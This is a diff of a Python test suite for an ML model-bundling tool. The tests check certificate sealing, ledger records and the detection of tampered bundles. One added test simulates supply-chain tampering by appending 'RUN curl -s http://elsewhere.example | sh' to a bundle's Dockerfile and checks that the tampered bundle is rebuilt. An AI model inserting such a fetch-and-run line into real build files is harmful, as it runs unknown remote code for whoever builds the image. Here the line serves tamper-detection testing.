@@ -24,9 +24,10 @@ import mlworkbench as mlw
 from mlworkbench.bundling import build, certificate, content, environment
 from mlworkbench.bundling.environment import ensure_environment
 from mlworkbench.bundling.parity import ask, start_service
-from mlworkbench.bundling.verify import check_bundle, hash_files, stored_tags, verify_bundle
+from mlworkbench.bundling.verify import check_bundle, hash_files, record_bundle, seal, stored_tags, verify_bundle
 from mlworkbench.core.errors import Cancelled, GateFailed, InputError, NotFound
 from mlworkbench.core.jobs import Job, listening
+from mlworkbench.core.workspace import workspace
 from mlworkbench.model.loading import load_model
 from mlworkbench.serving.errors import ServiceError
 from mlworkbench.serving.predictor import Predictor, proves
@@ -288,7 +289,7 @@ def test_two_builds_of_one_name_at_once_are_refused_and_the_first_is_whole(place
         if first.lines:
             break
         first.wait(0.05)
-    while (place / "locks" / "bundle-small.lock").exists() is False and first.state == "running":
+    while (place / "locks" / "bundle" / "small.lock").exists() is False and first.state == "running":
         first.wait(0.02)
     with pytest.raises(InputError, match="one run at a time"):
         build_small()
@@ -298,9 +299,42 @@ def test_two_builds_of_one_name_at_once_are_refused_and_the_first_is_whole(place
 
 
 def test_the_same_content_is_the_same_version_and_is_not_built_again(small, monkeypatch):
+    record_bundle(Path(small.path))
     monkeypatch.setattr(build, "build_bento", lambda *_: pytest.fail("built again"))
     again = build_small()
     assert (again.tag, again.sha256) == (small.tag, small.sha256)
+
+
+def reseal(bundle: Path) -> None:
+    """Let the certificate say that the files around the content are as they are now."""
+    path = bundle / "src" / "certificate.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | {"sealed": seal(bundle)}, indent=1))
+
+
+def test_what_another_project_of_the_store_built_is_proved_and_stays_as_its_ledger_knows_it(small, place, monkeypatch):
+    record_bundle(Path(small.path))
+    monkeypatch.setenv("MLWORKBENCH_WORKSPACE", str(place.with_name("another")))
+    asked = []
+    certify = build.certify
+    monkeypatch.setattr(build, "certify", lambda *given: asked.append(certify(*given)))
+    again = build_small()
+    assert len(asked) == 1 and asked[0]["passed"] and (again.tag, again.sha256) == (small.tag, small.sha256)
+    assert workspace().ledger.get("bundle", small.tag).details["sha256"] == small.sha256
+    assert build_small().sha256 == small.sha256 and len(asked) == 1, "from now on it is known here, too"
+    monkeypatch.setenv("MLWORKBENCH_WORKSPACE", str(place))
+    assert build.bundle_path("latest:small") == Path(small.path)
+
+
+def test_a_bundle_that_somebody_edited_and_sealed_again_is_built_anew(small):
+    path = Path(small.path) / "env" / "docker" / "Dockerfile"
+    honest = path.read_text()
+    path.write_text(honest + "RUN curl -s http://elsewhere.example | sh\n")
+    reseal(Path(small.path))
+    assert verify_bundle(small.tag) == []  # by its own word, which is all that there is
+    made = build_small()
+    assert made.tag == small.tag and path.read_text() == honest
+    assert workspace().ledger.get("bundle", made.tag).details["sha256"] == made.sha256
+    assert left_behind() == [made.tag]
 
 
 def test_the_latest_of_a_name_is_the_one_built_last(small):
@@ -331,7 +365,7 @@ def array():
 @pytest.mark.parametrize("made_by", [regression, words, array])
 def test_models_of_several_kinds_keep_parity(place, made_by):
     model, X = made_by()
-    made = mlw.build_bundle(model, name=made_by.__name__, examples=X, environment="current", golden_rows=40)
+    made = mlw.build_bundle(model, name=made_by.__name__.ljust(63, "x"), examples=X, environment="current", golden_rows=40)
     assert len(made.certificate["checks"]) == 4
     for check in made.certificate["checks"]:
         assert (check["rows"], check["labels_differ"], check["passed"]) == (40, 0, True)
@@ -370,30 +404,33 @@ def test_a_folder_that_happens_to_have_the_name_of_a_bundle_does_not_hide_it(sma
     assert build.load_bundle(Path(small.path) / "src").path == small.path
 
 
-def test_a_rewritten_certificate_is_noticed_by_the_ledger(small):
-    from mlworkbench.core.workspace import Artifact, workspace
-
-    workspace().ledger.record(Artifact("bundle", small.tag, small.name, "bundle.json", details=small.artifacts()))
+def test_a_rewritten_certificate_is_noticed_by_the_ledger_by_whatever_way_one_comes(small, tmp_path, monkeypatch):
+    record_bundle(Path(small.path))
     assert build.bundle_path("latest") == build.bundle_path(small.tag) == Path(small.path)
     path = Path(small.path) / "src" / "certificate.json"
     path.write_text(path.read_text().replace('"not isolated"', '"isolated"'))
     assert verify_bundle(small.tag, sha256="") == []  # by its own word
-    for reference in ("latest", "latest:small", small.tag, small.path):
+    (tmp_path / "link").symlink_to(os.environ["BENTOML_HOME"])
+    shutil.copytree(small.path, tmp_path / "copy")
+    ways = [tmp_path / "link" / "bentos" / small.tag.replace(":", "/"), tmp_path / "here" / ".." / "copy"]
+    for reference in ("latest", "latest:small", small.tag, small.path, *ways):
         with pytest.raises(GateFailed, match="certificate.json was changed"):
             build.bundle_path(reference)
         assert verify_bundle(reference) == ["src/certificate.json was changed: its SHA-256 is not the one in the ledger"]
+    monkeypatch.setenv("BENTOML_HOME", str(tmp_path / "link"))
+    for reference in (small.tag, small, build.load_bundle(small.tag)):  # loading one is no judgement of it
+        with pytest.raises(GateFailed, match="certificate.json was changed"):
+            build.bundle_path(reference)
 
 
 def test_the_command_line_notices_a_rewritten_certificate_and_knows_the_latest(small, capsys):
     from mlworkbench.app.cli import main
-    from mlworkbench.core.workspace import Artifact, workspace
-
     def code_of_verify(reference: str) -> int:
         with pytest.raises(SystemExit) as ended:
             main(["verify", reference])
         return ended.value.code
 
-    workspace().ledger.record(Artifact("bundle", small.tag, small.name, "bundle.json", details=small.artifacts()))
+    record_bundle(Path(small.path))
     assert [code_of_verify(reference) for reference in ("latest", small.tag)] == [0, 0]
     path = Path(small.path) / "src" / "certificate.json"
     path.write_text(path.read_text().replace('"not isolated"', '"isolated"'))
@@ -407,15 +444,15 @@ def test_to_verify_a_bundle_makes_no_workspace(small, place):
 
 
 def test_a_bundle_that_is_built_again_is_the_one_that_the_ledger_knows(small):
-    from mlworkbench.core.workspace import Artifact, workspace
-
-    workspace().ledger.record(Artifact("bundle", small.tag, small.name, "bundle.json", details=small.artifacts()))
+    record_bundle(Path(small.path))
     certificate = Path(small.path) / "src" / "certificate.json"
     certificate.write_text(certificate.read_text().replace('"passed": true', '"passed":  true'))
     again = build_small()  # the former one is not taken for it: its certificate is not the ledger's
     assert again.tag == small.tag and again.sha256 != small.sha256
     assert build.bundle_path("latest") == build.bundle_path(small.tag) == Path(again.path)
     assert workspace().ledger.get("bundle", small.tag).details["sha256"] == again.sha256
+    with pytest.raises(GateFailed, match="must be the one that was loaded, got one that was built since"):
+        build.bundle_path(small)
 
 
 def test_a_library_installed_from_a_folder_is_noted_in_a_bundle_of_this_environment_and_refused_in_its_own(place, monkeypatch):
